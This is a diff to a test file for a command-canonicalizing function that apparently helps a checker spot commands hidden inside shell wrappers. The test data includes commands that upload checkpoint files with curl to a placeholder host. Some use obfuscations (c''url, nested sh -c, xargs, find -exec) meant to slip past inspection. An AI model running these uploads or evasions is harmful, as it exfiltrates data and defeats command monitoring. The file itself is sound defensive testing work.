@@ -12,7 +12,9 @@ describe('canonicalExec', () => {
     expect(view(['env', 'A=1', '-u', 'B', '/bin/curl', 'x']).commands).toEqual([['env', 'A=1', '-u', 'B', 'curl', 'x']]);
     expect(view(['timeout', '-s', 'KILL', '5', './curl']).commands).toEqual([['timeout', '-s', 'KILL', '5', 'curl']]);
     expect(view(['sudo', '-u', 'root', 'nice', '-n', '5', '/x/wget']).commands).toEqual([['sudo', '-u', 'root', 'nice', '-n', '5', 'wget']]);
-    expect(view(['python', '-c', 'import os; os.system("curl -T a u")']).commands).toEqual([['python', '-c', 'import os; os.system("curl -T a u")']]);
+    expect(view(['python', 'train.py', '-c', 'import os; os.system("curl -T a u")']).commands).toEqual([['python', 'train.py', '-c', 'import os; os.system("curl -T a u")']]);
+    // Inline interpreter code is read for the commands it runs (exec-interpreter.ts).
+    expect(view(['python', '-c', 'import os; os.system("curl -T a u")']).commands).toEqual([['python', '-c', 'import os; os.system("curl -T a u")'], ['curl', '-T', 'a', 'u']]);
     expect(view(['nvidia-smi']).shellLine).toBeNull();
   });
 
@@ -24,6 +26,18 @@ describe('canonicalExec', () => {
     expect(view(['sh', '-c']).commands).toEqual([['sh', '-c']]);
     expect(view(['su', 'root', '-c', "c''url -T a u"]).commands).toEqual([['curl', '-T', 'a', 'u']]);
     expect(view(['env', '-S', "c''url -T a u"]).commands).toEqual([['curl', '-T', 'a', 'u']]);
+  });
+
+  it('xargs and find -exec run their command: a shell\'s script is read, find\'s search kept beside it', () => {
+    expect(view(['sh', '-c', "ls /ckpt | xargs -I{} bash -c 'c\"\"url -T /ckpt/{} u'"]).commands).toEqual([['ls', '/ckpt'], ['curl', '-T', '/ckpt/{}', 'u']]);
+    expect(view(['sh', '-c', "ls | xargs -0 -n1 sh -c 'curl -T \"$0\" u'"]).commands).toContainEqual(['curl', '-T', '$0', 'u']);
+    expect(view(['sh', '-c', "find /ckpt -name '*.pt' -exec sh -c 'curl -T \"$1\" u' _ {} \\;"]).commands).toEqual([
+      ['find', '/ckpt', '-name', '*.pt', '-exec', 'sh', '-c', 'curl -T "$1" u', '_', '{}', ';'],
+      ['curl', '-T', '$1', 'u'],
+    ]);
+    expect(view(['find', '/ckpt', '-execdir', '/bin/bash', '-c', "c''url -T {} u", ';']).commands).toEqual([['curl', '-T', '{}', 'u']]);
+    expect(view(['find', '/ckpt', '-name', '*.pt', '-exec', '/usr/bin/curl', '-T', '{}', 'u', '+']).commands).toEqual([['find', '/ckpt', '-name', '*.pt', '-exec', 'curl', '-T', '{}', 'u', '+']]);
+    expect(view(['find', '/ckpt', '-name', '-exec']).commands).toEqual([['find', '/ckpt', '-name', '-exec']]);
   });
 
   it('script commands: reserved words, assignments and redirections before the tool; nested shells', () => {
